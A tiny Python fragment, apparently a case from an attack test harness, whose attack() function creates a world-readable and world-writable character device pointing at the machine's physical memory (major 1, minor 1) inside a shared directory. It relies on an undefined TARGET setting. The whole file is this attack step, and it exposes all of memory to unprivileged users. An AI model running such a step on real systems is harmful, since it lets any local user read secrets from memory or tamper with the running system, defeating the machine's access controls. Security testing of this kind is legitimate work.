"""Makes a device node through which the machine's memory can be read; only root may."""

import os

ROOT = True


def attack(A):
    os.mknod(f"{TARGET['shared']}/{TARGET['stray']}", 0o020666, os.makedev(1, 1))
